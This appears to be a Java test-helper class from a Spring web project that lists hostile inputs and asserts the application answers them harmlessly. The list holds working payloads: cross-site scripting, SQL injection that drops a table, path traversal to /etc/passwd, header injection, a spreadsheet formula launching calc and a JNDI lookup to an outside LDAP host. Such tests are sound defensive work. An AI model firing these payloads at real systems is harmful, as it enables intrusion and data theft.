package fr.traboule;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.springframework.test.web.servlet.assertj.MvcTestResult;

/** What comes from outside to do harm, and what must be true of every answer to it. */
public final class Hostile {

    public static final List<String> WORDS = List.of(
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' or '1'='1' --",
            "'; drop table requests.request; --",
            "${7*7} #{7*7} {{7*7}}",
            "%s%n%x %00 %2e%2e/",
            "../../../../etc/passwd",
            "a\r\nSet-Cookie: traboule=stolen",
            "\u202e\u2066 retourné \u2069",
            "\ud800",
            "a\u0000b",
            "e\u0301".repeat(300),
            "😀".repeat(2_000),
            "x".repeat(150_000),
            "9".repeat(400),
            "-1",
            "NaN",
            "=cmd|' /C calc'!A0",
            "jndi:ldap://203.0.113.9/a",
            "[\"tableau\"]",
            "null");

    private Hostile() {}

    /** Refused or taken, but never failed, never run and never told how the program is made. */
    public static void requireHarmless(MvcTestResult answer) {
        assertThat(answer.getUnresolvedException()).isNull();
        assertThat(answer.getResponse().getStatus()).isLessThan(500);
        assertThat(answer.getResponse().getHeaders("Set-Cookie")).noneMatch(cookie -> cookie.contains("stolen"));
        assertThat(Answer.body(answer))
                .doesNotContain("<script>", "<img src=x", "Exception", "at fr.traboule", "org.springframework");
    }
}
